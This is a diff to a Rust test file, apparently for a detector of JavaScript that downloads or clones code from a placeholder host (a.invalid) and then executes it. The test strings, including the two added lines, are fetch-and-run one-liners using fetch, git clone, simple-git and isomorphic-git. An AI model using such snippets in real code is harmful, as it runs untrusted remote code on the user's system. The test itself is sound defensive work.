@@ -127,6 +127,8 @@ fn what_a_library_unpacks_from_the_network_is_remote_where_it_is_run() {
         "fetch('https://a.invalid/b').then(async r => { fs.writeFileSync('/tmp/a.zip', Buffer.from(await r.arrayBuffer())); await require('extract-zip')('/tmp/a.zip', {dir: '/tmp/out'}); cp.execFileSync('/tmp/out/run') })",
         "require('download')('https://a.invalid/b', '/tmp/out', {extract: true}).then(() => cp.execFileSync('/tmp/out/run'))",
         "cp.execSync('git clone https://a.invalid/b /tmp/out'); require('/tmp/out/i.js')",
+        "require('simple-git')().clone('https://a.invalid/b', '/tmp/out').then(() => cp.execFileSync('/tmp/out/run'))",
+        "require('isomorphic-git').clone({fs, url: 'https://a.invalid/b', dir: '/tmp/out'}).then(() => cp.spawn('/tmp/out/run'))",
     ] {
         assert!(unpacks(code), "{code}");
         let elsewhere = code.replace("('/tmp/out/", "('/tmp/other/");
